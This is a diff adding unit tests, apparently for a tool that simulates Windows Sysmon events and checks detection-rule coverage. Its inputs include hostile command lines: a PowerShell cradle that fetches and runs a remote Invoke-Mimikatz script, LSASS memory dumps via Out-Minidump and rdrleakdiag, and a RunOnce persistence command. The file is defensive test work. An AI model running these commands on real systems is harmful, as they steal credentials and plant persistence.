@@ -146,3 +146,55 @@ describe('the words of a fake check', () => {
     expect(entries('powershell -c "iwr https://verify-human.example.com/a -OutFile a.exe"')).toEqual([]);
   });
 });
+
+describe('dumps of LSASS beyond ProcDump and comsvcs', () => {
+  const access = (line: string) => withId(eventsOf([cmdline(line)]), 10).map((event) => [event['SourceImage'], event['GrantedAccess']]);
+  const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
+
+  it('opens lsass.exe from PowerShell for Invoke-Mimikatz and Out-Minidump', () => {
+    expect(access('powershell -ep bypass -c "IEX (iwr http://203.0.113.4/im.ps1); Invoke-Mimikatz -DumpCreds"')).toEqual([
+      [POWERSHELL, '0x1010'],
+    ]);
+    expect(access('powershell -c "Get-Process lsass | Out-Minidump -DumpFilePath C:\\Windows\\Temp"')).toEqual([[POWERSHELL, '0x1fffff']]);
+  });
+
+  it('opens it from rdrleakdiag and from a brought tool told lsass, with the dump file they write', () => {
+    const events = eventsOf([cmdline('rdrleakdiag.exe /p 640 /o C:\\Windows\\Temp /fullmemdmp /wait 1')]);
+    expect(withId(events, 10)).toEqual([
+      expect.objectContaining({ SourceImage: 'C:\\Windows\\System32\\rdrleakdiag.exe', GrantedAccess: '0x1fffff' }),
+    ]);
+    expect(withId(events, 11).map((event) => event['TargetFilename'])).toContain('C:\\Windows\\Temp\\minidump_640.dmp');
+    expect(access('C:\\Users\\Public\\dd.exe lsass')).toEqual([['C:\\Users\\Public\\dd.exe', '0x1fffff']]);
+    // Windows' own process tools that only name lsass read no memory.
+    expect(access('tasklist /fi "imagename eq lsass.exe"')).toEqual([]);
+  });
+});
+
+describe('why a corpus rule fired on an observable', () => {
+  it('keeps each distinct reason, not only the first event’s', () => {
+    const coverage = new CorpusCoverage<string>();
+    coverage.add(
+      {
+        title: 'Shell or registry tool',
+        level: 'medium',
+        logsource: { product: 'windows', category: 'process_creation' },
+        detection: {
+          selection_shell: { 'Image|endswith': '\\cmd.exe', 'CommandLine|contains': 'reg add' },
+          selection_reg: { 'Image|endswith': '\\reg.exe', 'CommandLine|contains': 'RunOnce' },
+          condition: '1 of selection_*',
+        },
+      },
+      'either',
+    );
+    const [entry] = coverage.cover(
+      [cmdline('cmd /c reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce /v u /d x.exe /f')],
+      {
+        product: 'windows',
+        explain: true,
+      },
+    );
+    const [match] = entry?.explained ?? [];
+    const selections = [match?.matched, ...(match?.also ?? [])].map((items) => items?.map((item) => item.selection)[0]);
+    expect(selections).toEqual(['selection_shell', 'selection_reg']);
+  });
+});
